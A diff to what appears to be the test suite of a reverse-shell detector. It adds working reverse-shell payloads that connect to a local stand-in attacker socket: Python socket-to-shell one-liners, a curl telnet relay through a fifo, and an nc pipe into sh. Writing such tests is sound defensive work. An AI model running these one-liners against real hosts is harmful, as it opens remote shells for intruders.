@@ -18,6 +18,12 @@ PYTHON_SHELL = ("import os,socket,subprocess\ns=socket.create_connection(('127.0
 PYTHON_RELAY = ("import socket,subprocess\ns=socket.create_connection(('127.0.0.1',%d))\n"
                 "p=subprocess.Popen(['/bin/sh'],stdin=subprocess.PIPE,stdout=subprocess.PIPE)\n"
                 "while True:\n p.stdin.write(s.recv(1))")
+PYTHON_COPY = ("import os,socket\ns=socket.create_connection(('127.0.0.1',%d))\n"
+               "[os.dup2(s.fileno(),i) for i in (0,1,2)]\nos.execv('/srv/bb',['bb'])")
+PYTHON_TERMINAL = ("import os,socket\ns=socket.create_connection(('127.0.0.1',%d))\nmaster,slave=os.openpty()\n"
+                   "if os.fork()==0:\n os.setsid()\n if os.fork()==0:\n  [os.dup2(slave,i) for i in (0,1,2)]\n"
+                   "  os.execv('/bin/sh',['sh'])\n os._exit(0)\nos.wait()\n"
+                   "while True:\n os.write(master,s.recv(1))")
 PYTHON_BIND = ("import os,socket\nl=socket.create_server(('127.0.0.1',%d))\ns,_=l.accept()\n"
                "[os.dup2(s.fileno(),i) for i in (0,1,2)]\nos.execv('/bin/bash',['bash','-i'])")
 PERL_SHELL = ("use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(%d,inet_aton('127.0.0.1')));"
@@ -43,6 +49,15 @@ def exe_of(pid):
         return os.path.basename(os.readlink("/proc/%d/exe" % pid))
     except OSError:
         return ""
+
+
+def the_only(program, port=None):
+    """The process that runs it; of several the one with that port among its arguments."""
+    found = [p for p in map(int, filter(str.isdigit, os.listdir("/proc"))) if exe_of(p) == program]
+    if port:
+        found = [p for p in found if str(port).encode() in open("/proc/%d/cmdline" % p, "rb").read()]
+    live.equal(len(found), 1, "processes that run %s" % program)
+    return found[0]
 
 
 def calls_home(s, name, rule, *command, runs=None, shell_pid=False):
@@ -85,14 +100,24 @@ def reverse_shells(s):
     yield calls_home(s, "socat, nofork", "shell-on-socket", "socat", "TCP:127.0.0.1:%d", "EXEC:/bin/sh,nofork",
                      runs=shells)
     yield calls_home(s, "nc -e", "shell-on-socket", "nc.traditional", "-e", "/bin/sh", "127.0.0.1", "%d", runs=shells)
+    s.copy("/srv/bb", "/bin/bash")
+    yield calls_home(s, "a copy of bash", "shell-on-socket", "/usr/bin/python3", "-c", PYTHON_COPY, runs=("bb",))
+    yield calls_home(s, "python3, terminal, forked twice", "shell-behind-relay", "/usr/bin/python3", "-c", PYTHON_TERMINAL)
+    sock, port = s.attacker()
+    os.mkfifo("/srv/loop")
+    s.start("sh", "-c", "tail -f /srv/loop | (exec curl -sNT - telnet://127.0.0.1:%d) | sh -i > /srv/loop 2>&1" % port)
+    s.accept(sock)
+    yield Case("curl, fifo", "shell-behind-relay", the_only("curl"))
+    sock, port = s.attacker()
+    s.start("sh", "-c", "(exec nc.openbsd 127.0.0.1 %d) | sh" % port)
+    s.accept(sock)
+    yield Case("nc, into sh", "shell-behind-relay", the_only("nc.openbsd"))
     sock, port = s.attacker()
     os.mkfifo("/srv/fifo")
     s.start("sh", "-c", "cat /srv/fifo | /bin/sh -i 2>&1 | (echo $$ > /srv/pid; exec nc.openbsd 127.0.0.1 %d > "
             "/srv/fifo)" % port)
     s.accept(sock)
-    relay = [p for p in map(int, filter(str.isdigit, os.listdir("/proc"))) if exe_of(p) == "nc.openbsd"]
-    live.equal(len(relay), 1, "the relay")
-    yield Case("nc, fifo", "shell-behind-relay", relay[0])
+    yield Case("nc, fifo", "shell-behind-relay", the_only("nc.openbsd", port))
 
 
 def bind_shells(s):
